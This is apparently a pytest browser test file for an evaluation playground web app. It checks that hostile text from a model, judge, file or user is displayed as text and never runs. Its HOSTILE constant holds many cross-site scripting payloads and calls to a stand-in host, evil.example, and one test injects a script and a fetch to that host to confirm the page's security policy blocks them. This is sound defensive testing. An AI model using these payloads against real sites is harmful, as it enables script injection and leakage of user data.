"""Hostile text from a model, a judge, a file and a person, in a real browser: it is read, and nothing of it happens."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from evaluation.prompts.suites import Suite
from evaluation.types import Category, Judgement, Prompt
from playground.pages import build_app, launch_options
from playground.pages.text import say
from tests.browser.conftest import Person, Served
from tests.fakes import FakeEngine, FakeJudge, fake_services

Visit = Callable[..., Person]

# Each would set window.hit, open a dialog, or ask evil.example for something.
HOSTILE = (
    "<script>window.hit = 1; alert(1)</script><img src=x onerror='window.hit = 2; alert(2)'><svg onload='window.hit = 3'></svg>"
    "![i](https://evil.example/pixel.png) [l](javascript:window.hit=4) <a href='javascript:window.hit=5'>a</a>"
    "<img src='https://evil.example/a.png'><style>@import 'https://evil.example/a.css'; * { background: url(https://evil.example/b) }</style>"
    '"><iframe srcdoc="<script>parent.hit = 6</script>"></iframe><link rel=stylesheet href=//evil.example/c.css>'
    "<meta http-equiv=refresh content='0;url=https://evil.example'><details open ontoggle='window.hit = 7'>"
    "</div></section><form action=//evil.example><input autofocus onfocus='window.hit = 8'>"
    "${window.hit = 9} {{window.hit = 10}} `${window.hit = 11}` <base href=//evil.example> \u202e逆 <b"
)


@dataclass
class HostileJudge(FakeJudge):
    """Explains itself in the same words."""

    def _read(self, exchange: object, scale: object) -> Judgement:
        return replace(super()._read(exchange, scale), explanation=HOSTILE, raw_text=HOSTILE)  # type: ignore[arg-type]


def hostile_suite() -> Suite:
    category = Category(HOSTILE, f"{HOSTILE}1", f"{HOSTILE}2")
    prompts = tuple(
        Prompt(f"{HOSTILE}{n}", f"{HOSTILE}{n}", HOSTILE, category, suite="hostile", turns=(HOSTILE,), extra={HOSTILE: HOSTILE, "question_en": HOSTILE})
        for n in range(3)
    )  # fmt: skip
    return Suite("hostile", prompts, ("safety",), False, HOSTILE, HOSTILE)


@pytest.fixture
def served(tmp_path: Path):
    models = {"general": HOSTILE, "answercarefully-sample": HOSTILE + "別の終わり", HOSTILE[:90]: HOSTILE}
    services = fake_services(tmp_path, FakeEngine(models), [HostileJudge()], suites=[hostile_suite()])
    app = build_app(services)
    _, url, _ = app.launch(**launch_options(server_name="127.0.0.1", prevent_thread_lock=True, quiet=True))
    yield Served(url, services, services.engine)
    app.close(verbose=False)
    services.store.close()


def untouched(person: Person) -> None:
    """No script of the text ran, no dialog came up, nothing left this machine, and no element of it is there."""
    page = person.page
    assert page.evaluate("window.hit") is None
    assert person.dialogs == [] and person.outside == []
    for selector in (
        "[onerror], [onload], [onfocus], [ontoggle]",
        "iframe",
        "img[src*='evil']",
        "a[href^='javascript']",
        "[href*='evil']",
        "form[action]",
    ):
        assert page.locator(selector).count() == 0, selector
    assert not page.evaluate(
        "[...document.querySelectorAll('style')].some(s => s.textContent.includes('evil.example'))"
    )


def test_hostile_text_is_read_on_every_page_and_does_nothing(served: Served, visit: Visit):
    person = visit(served).open()
    page = person.page
    person.ask(HOSTILE)
    person.wait_for_answers()
    person.wait_for_verdicts()
    assert page.inner_text("#answer-left .reply").startswith("<script>window.hit = 1; alert(1)</script>")
    untouched(person)
    for tab in ("tab.browse", "tab.history", "tab.quality", "tab.train", "tab.bench"):
        person.tab(say("ja", tab))
        page.wait_for_timeout(500)
        for listed in ("#taxonomy button.category", "#prompts button.entry", "#history-list button.entry"):
            if page.locator(listed).first.is_visible():
                page.locator(listed).last.click()
                page.wait_for_timeout(500)
        untouched(person)
    assert person.errors == [] and person.violations == []


def test_the_policy_holds_where_the_escape_would_not(served: Served, visit: Visit):
    """The same text put into the page as HTML, as if somebody had forgotten to escape it: the browser itself refuses."""
    person = visit(served).open()
    page = person.page
    page.evaluate("(text) => { document.body.insertAdjacentHTML('beforeend', text); }", HOSTILE.replace("<meta", "<x"))
    page.evaluate(
        "() => { const s = document.createElement('script'); s.textContent = 'window.hit = 12'; document.body.append(s); }"
    )
    page.evaluate(
        "() => { const s = document.createElement('script'); s.src = 'https://evil.example/s.js'; document.body.append(s); }"
    )
    page.evaluate("() => fetch('https://evil.example/f').catch(() => null)")
    page.wait_for_timeout(1000)
    assert page.evaluate("window.hit") is None and person.dialogs == []
    assert [said for said in person.violations if "script" in said.lower()]
    assert person.reached == []
    person.violations.clear()
